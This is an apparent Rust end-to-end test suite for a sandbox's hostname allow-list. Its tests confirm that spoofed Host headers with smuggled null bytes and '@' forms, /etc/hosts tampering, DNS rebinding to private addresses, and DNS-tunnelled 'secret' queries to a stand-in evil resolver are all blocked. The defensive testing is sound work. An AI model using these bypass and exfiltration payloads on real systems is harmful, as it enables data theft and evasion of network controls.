//! Rules by name hold whatever a client claims.

use std::time::Duration;

use serde_json::json;
use warren_e2e::{Internet, TestEnv, eventually};

use super::{assert_closed, assert_open, create, finish, serve};

#[test]
fn check_53_56_58_and_60_a_name_is_what_it_was_answered_with() {
    let env = TestEnv::new();
    let internet = Internet::new(&env);
    let server = serve(&env, &internet);
    let id = create(&server, &["--net", "allow", "--allow", "web.test", "--user", "root"]);
    assert_open(&server, &id, &["tls", "web.test", "443"]);
    // An allowed name at an address that it does not have, in the greeting, in the request and in
    // the sandbox's own file.
    assert_closed(&server, &id, &["tls", "198.51.100.20", "443", "web.test"]);
    assert_closed(&server, &id, &["http", "198.51.100.20", "80", "web.test"]);
    server.shell(&id, "echo '198.51.100.20 web.test' >> /etc/hosts");
    assert_closed(&server, &id, &["http", "web.test", "80"]);
    server.shell(&id, "sed -i /198.51/d /etc/hosts");
    assert_open(&server, &id, &["http", "web.test", "80"]);
    // The right address and a wrong name, or none.
    for (kind, port) in [("tls", "443"), ("http", "80")] {
        assert_closed(&server, &id, &[kind, "web.test", port, "other.test"]);
        assert_closed(&server, &id, &[kind, "web.test", port, "api.web.test"]);
        assert_closed(&server, &id, &[kind, "web.test", port, "web.test.evil"]);
        assert_closed(&server, &id, &[kind, "web.test", port, "evil-web.test"]);
    }
    assert_closed(&server, &id, &["tls", "198.51.100.10", "443", ""]);
    for odd in [
        "web.test\0.evil",
        "web.test@other.test",
        "web.test other.test",
        "web.test%00",
        "0x0a070707",
        "012.7.7.7",
        "169029383",
    ] {
        let script = format!(
            "import socket; s = socket.create_connection(('web.test', 80), 3); s.send(b'GET / HTTP/1.1\\r\\nHost: ' + {:?}.encode() + b'\\r\\n\\r\\n'); \
             print(s.recv(64).split(b' ')[1].decode())",
            odd.replace('\0', "\\0")
        );
        let code = server.warren(["exec", &id, "--", "python3", "-c", &script]).text();
        assert!(code.starts_with('4') || code.is_empty(), "{odd:?}: {code}");
    }
    // One connection, two requests for two hosts.
    let two = "import socket; s = socket.create_connection(('web.test', 80), 3); s.send(b'GET /1 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'); \
               import time; time.sleep(0.5); print(s.recv(9999).decode())";
    let answers = server.warren(["exec", &id, "--", "python3", "-c", two]).text();
    assert!(answers.contains("200 OK") && answers.contains("403"), "{answers}");
    let hosts: Vec<Option<String>> =
        internet.contacts_with("http").into_iter().map(|contact| contact.host).collect();
    assert!(hosts.iter().all(|host| host.as_deref() == Some("web.test")), "{hosts:?}");
    assert!(internet.contacts_with("https").iter().all(|contact| contact.address == "198.51.100.10"));
    internet.assert_only(&["198.51.100.10", "192.0.2.53"]);
    finish(server, &internet);
}

#[test]
fn check_55_and_59_names_carry_nothing_out() {
    let env = TestEnv::new();
    let internet = Internet::new(&env);
    let server = serve(&env, &internet);
    let id = create(&server, &["--net", "allow", "--allow", "web.test"]);
    let ask = "import socket,sys
for name in ['c2VjcmV0.other.test', 'deadbeef.evil.test', 'x' * 60 + '.web.test', 'other.test']:
    try: socket.getaddrinfo(name, 80)
    except OSError: pass
";
    server.warren(["exec", &id, "--", "python3", "-c", ask]).ok();
    // Somebody else's resolver, over UDP, TCP and TLS.
    let own = "import socket,struct
q = struct.pack('!6H', 9, 256, 1, 0, 0, 0) + b'\\x06secret\\x04evil\\x04test\\0\\0\\x01\\0\\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
try: s.sendto(q, ('198.51.100.53', 53)); s.recv(512)
except OSError: pass
try:
    t = socket.create_connection(('198.51.100.53', 53), 2); t.send(struct.pack('!H', len(q)) + q); t.recv(512)
except OSError: pass
";
    server.warren(["exec", &id, "--", "python3", "-c", own]).ok();
    assert_closed(&server, &id, &["tls", "198.51.100.10", "853"]);
    assert_closed(&server, &id, &["udp", "198.51.100.10", "5353"]);
    let asked: Vec<String> = internet.contacts_with("dns").into_iter().map(|contact| contact.name).collect();
    assert!(asked.iter().all(|name| name == "web.test"), "{asked:?}");
    internet.assert_only(&["192.0.2.53"]);
    finish(server, &internet);
}

#[test]
fn check_57_a_name_that_turns_private_is_refused() {
    let env = TestEnv::new();
    let internet = Internet::new(&env);
    let server = serve(&env, &internet);
    for flags in
        [&["--net", "public"][..], &["--net", "allow", "--allow", "rebind.test", "--allow", "private.test"]]
    {
        internet
            .zone(json!({"rebind.test": [["198.51.100.10"], ["10.7.7.7"]], "private.test": ["10.7.7.7"]}));
        let id = create(&server, flags);
        assert_closed(&server, &id, &["http", "private.test", "80"]);
        let look = "import socket\nfor _ in range(6):\n  try: print(socket.gethostbyname('rebind.test'))\n  except OSError: print('none')";
        let answers = server.warren(["exec", &id, "--", "python3", "-c", look]).ok().text();
        assert!(!answers.contains("10.7.7.7"), "{answers}");
    }
    internet.assert_only(&["198.51.100.10", "192.0.2.53"]);
    finish(server, &internet);
}

#[test]
fn f33_the_machines_resolver_and_route_may_change() {
    let env = TestEnv::new();
    let internet = Internet::new(&env);
    let server = serve(&env, &internet);
    let (public, listed) = (server.create(), create(&server, &["--net", "allow", "--allow", "web.test"]));
    assert_open(&server, &listed, &["http", "web.test", "80"]);
    internet.shell("ip route del default");
    assert_closed(&server, &listed, &["http", "web.test", "80"]);
    internet.shell("ip route add default via 203.0.113.2");
    for id in [&public, &listed] {
        eventually(Duration::from_secs(60), "the way out is back", || {
            super::reach(&server, id, &["http", "web.test", "80"]).0 == "open"
        });
        assert_closed(&server, id, &["http", "10.7.7.7", "80"]);
    }
    // An address that the machine gets is closed from that moment on.
    internet.shell("ip addr add 203.0.113.7/24 dev uplink");
    for id in [&public, &listed] {
        assert_closed(&server, id, &["http", "203.0.113.7", "80"]);
    }
    internet.assert_only(&["198.51.100.10", "192.0.2.53"]);
    finish(server, &internet);
}
